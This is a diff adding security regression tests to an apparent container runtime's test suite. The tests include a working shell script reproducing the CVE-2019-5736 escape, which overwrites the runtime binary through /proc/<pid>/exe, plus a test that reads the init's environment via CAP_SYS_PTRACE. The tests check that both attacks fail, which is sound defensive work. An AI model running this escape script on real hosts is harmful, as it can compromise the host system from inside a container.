@@ -380,3 +380,97 @@ runtime_copy () {
   run cat "$BUNDLE/rootfs/tmp/saw"
   refute_output --partial SAW
 }
+
+# attack_script: /attack in the rootfs. It finds the capsa that /entrypoint (`#!/proc/self/exe
+# --log=/tmp/fifo`) made run inside the container, opens its /proc/<pid>/exe while it blocks on
+# the fifo, lets it exit, then tries to overwrite the binary through the kept fd.
+attack_script () {
+  cat >"$BUNDLE/rootfs/attack" <<'SCRIPT'
+#!/bin/sh
+want="/proc/self/exe --log=/tmp/fifo /entrypoint "
+end=$(($(date +%s) + 15))
+pid=
+while [ -z "$pid" ] && [ "$(date +%s)" -lt "$end" ]; do
+  for p in /proc/[0-9]*; do
+    [ "$(tr '\0' ' ' <"$p/cmdline" 2>/dev/null)" = "$want" ] && pid=${p#/proc/} && break
+  done
+done
+[ -n "$pid" ] || { echo "no victim"; exit 0; }
+echo "victim $pid: $(readlink /proc/$pid/exe)"
+if (: <"/proc/$pid/exe") 2>/dev/null; then
+  exec 5<"/proc/$pid/exe"
+  echo "exe: opened"
+else
+  echo "exe: denied"
+fi
+cat /tmp/fifo >/dev/null
+i=0
+while [ $i -lt 60 ]; do
+  if (echo CAPSA-OVERWRITTEN >/proc/self/fd/5) 2>/dev/null; then echo "write: done"; exit 0; fi
+  i=$((i + 1))
+  sleep 0.05
+done
+echo "write: denied"
+SCRIPT
+  printf '#!/proc/self/exe --log=/tmp/fifo\n' >"$BUNDLE/rootfs/entrypoint"
+  # the runtime must be able to run in the container: its loader and libraries
+  local lib
+  for lib in $(ldd "$CAPSA" | awk '$2 == "=>" && $3 ~ /^\// {print $3} $1 ~ /^\// {print $1}'); do
+    cp --parents -L "$lib" "$BUNDLE/rootfs/"
+  done
+  chmod 0755 "$BUNDLE/rootfs/attack" "$BUNDLE/rootfs/entrypoint"
+  mkfifo "$BUNDLE/rootfs/tmp/fifo"
+}
+
+@test "escape: #!/proc/self/exe cannot overwrite the runtime binary (CVE-2019-5736)" {
+  local sum orig=$CAPSA
+  runtime_copy
+  sum=$(sha256sum <"$CAPSA")
+  attack_script
+  # 1. the entrypoint re-executes the runtime; no pid namespace, so the init's death does not
+  # end the attacker, which an exec started before `start`
+  cfg '.linux.namespaces |= map(select(.type != "pid"))'
+  set_args /entrypoint
+  capsa_bg create -b "$BUNDLE" ctr
+  defer "$CAPSA --root $ROOT delete -f ctr"
+  capsa exec -d ctr sh -c '/attack >/tmp/attack.out 2>&1' </dev/null >/dev/null 2>&1
+  capsa start ctr
+  wait_for grep -q -E '^(no victim|write:)' "$BUNDLE/rootfs/tmp/attack.out"
+  run cat "$BUNDLE/rootfs/tmp/attack.out"
+  # (a modified copy is put back first, so that the cleanup still works)
+  [ "$(sha256sum <"$CAPSA")" = "$sum" ] \
+    || { cp "$orig" "$CAPSA"; fail "the runtime binary was modified by the entrypoint attack: $output"; }
+  capsa delete -f ctr
+  assert_line --partial "exe: "
+  assert_line "write: denied"
+  # 2. a program run by `capsa exec` re-executes the runtime; the attacker is the container
+  set_args sh -c '/attack >/tmp/attack.out 2>&1; sleep 100'
+  cfg '.linux.namespaces += [{type: "pid"}]'
+  rm -f "$BUNDLE/rootfs/tmp/attack.out"
+  capsa run -d -b "$BUNDLE" ctr </dev/null >/dev/null 2>"$ERR"
+  # (exec'd directly: through a shell, /proc/self/exe would be the shell)
+  capsa exec -d ctr /entrypoint </dev/null >/dev/null 2>&1 || true
+  pid=$(pid_of ctr)
+  wait_for grep -q -E "^(no victim|write:)" "$BUNDLE/rootfs/tmp/attack.out" || fail "$(cat "$ERR")"
+  run cat "$BUNDLE/rootfs/tmp/attack.out"
+  # (a modified copy is put back first, so that the cleanup still works)
+  [ "$(sha256sum <"$CAPSA")" = "$sum" ] \
+    || { cp "$orig" "$CAPSA"; fail "the runtime binary was modified by the exec attack: $output"; }
+  capsa delete -f ctr
+  assert_line --partial "exe: "
+  assert_line "write: denied"
+}
+
+@test "escape: the waiting init does not expose the caller's environment" {
+  # CAP_SYS_PTRACE lets a container process read the non-dumpable init's /proc/1/environ
+  cfg '.process.capabilities |= with_entries(.value += ["CAP_SYS_PTRACE"])'
+  set_args sleep 100
+  CAPSA_SECRET_MARK=capsa-secret-4711 capsa_bg create -b "$BUNDLE" ctr
+  defer "$CAPSA --root $ROOT delete -f ctr"
+  # the marker is in the runtime's environment, not in the container's
+  run capsa exec ctr sh -c 'tr "\0" "\n" </proc/1/environ; echo read=$?'
+  capsa delete -f ctr
+  assert_success
+  assert_line read=0
+  refute_output --partial capsa-secret-4711
+}
